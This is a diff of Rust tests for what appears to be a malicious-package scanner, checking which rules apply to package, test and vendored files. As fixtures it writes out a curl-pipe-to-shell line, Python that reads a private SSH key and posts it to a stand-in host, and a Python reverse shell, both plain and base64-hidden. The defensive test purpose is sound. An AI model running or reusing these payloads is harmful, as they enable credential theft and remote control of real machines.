@@ -198,9 +198,9 @@ os.system("curl -s http://x.example/a.sh | sh")
 }
 
 #[test]
-fn rules_process_spawn_git_in_tests_is_only_a_capability() {
+fn rules_process_spawn_git_is_only_a_capability() {
     let ev = scan(&[(
-        "demo-1.0/tests/test_git.py",
+        "demo-1.0/demo/vcs.py",
         "import subprocess\n\ndef test_status():\n    subprocess.run(['git', 'status'], check=True)\n",
     )]);
     assert!(
@@ -1599,4 +1599,84 @@ fn flows_an_archive_setup_py_loads_runs_at_install_and_a_disguised_one_is_hidden
         "{}",
         dump(&ev)
     );
+}
+
+// --- Which rules a member is given (rules_for): tests, docs and vendored code get only what can
+// --- still change the verdict there.
+
+#[test]
+fn tests_and_vendored_code_count_only_for_a_reverse_shell() {
+    use crate::verdict::behaviours_that_count;
+    for role in [MemberRole::Peripheral, MemberRole::Vendored] {
+        assert_eq!(
+            behaviours_that_count(role).into_iter().collect::<Vec<_>>(),
+            [Behaviour::ReverseShell],
+            "{role:?}"
+        );
+    }
+    let package = behaviours_that_count(MemberRole::Package);
+    for b in [
+        Behaviour::CredentialAccess,
+        Behaviour::NetworkSend,
+        Behaviour::DecodeExec,
+        Behaviour::ReverseShell,
+    ] {
+        assert!(package.contains(&b), "{b:?}");
+    }
+    // Every rule still runs on package code and on nested members; the decoders run everywhere.
+    let test_file = member("demo-1.0/tests/test_x.py", b"x = 1\n");
+    let ids = |rules: Vec<&dyn Rule>| rules.iter().map(|r| r.meta().id).collect::<Vec<_>>();
+    assert_eq!(
+        ids(rules_for(
+            &member("demo-1.0/demo/a.py", b""),
+            MemberRole::Package
+        ))
+        .len(),
+        ALL.len()
+    );
+    let mut nested = test_file.clone();
+    nested.depth = 1;
+    assert_eq!(
+        ids(rules_for(&nested, MemberRole::Peripheral)).len(),
+        ALL.len()
+    );
+    let light = ids(rules_for(&test_file, MemberRole::Peripheral));
+    for id in [
+        "reverse-shell",
+        "encoded-payload",
+        "dynamic-exec",
+        "drop-executable",
+    ] {
+        assert!(light.contains(&id), "{light:?}");
+    }
+    assert!(!light.contains(&"credential-access"), "{light:?}");
+}
+
+#[test]
+fn flows_a_test_file_is_judged_on_what_counts_there() {
+    let steal = "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example.com', data=key)\n";
+    // In package code: malicious.
+    let (v, why) = verdict_of(&[("demo-1.0/demo/__init__.py", steal)]);
+    assert_eq!(v, crate::Verdict::Malicious, "{why:?}");
+    // Uploading a public key is no theft.
+    let (v, why) = verdict_of(&[(
+        "demo-1.0/demo/__init__.py",
+        &steal.replace("id_rsa", "id_rsa.pub"),
+    )]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+    // In a test it could not change the verdict, so it is not even gathered.
+    let ev = scan(&[("demo-1.0/tests/test_keys.py", steal)]);
+    assert!(ev.is_empty(), "{}", dump(&ev));
+    let (v, why) = verdict_of(&[("demo-1.0/tests/test_keys.py", steal)]);
+    assert_eq!(v, crate::Verdict::Clean, "{why:?}");
+    // A reverse shell counts anywhere, also when a test decodes it from base64 before running it.
+    let shell = "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.0.0.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n";
+    let hidden = format!(
+        "import base64\nexec(base64.b64decode('{}'))\n",
+        encode_b64(shell.as_bytes())
+    );
+    for src in [shell.to_owned(), hidden] {
+        let (v, why) = verdict_of(&[("demo-1.0/tests/test_net.py", &src)]);
+        assert_eq!(v, crate::Verdict::Suspicious, "{src}: {why:?}");
+    }
 }
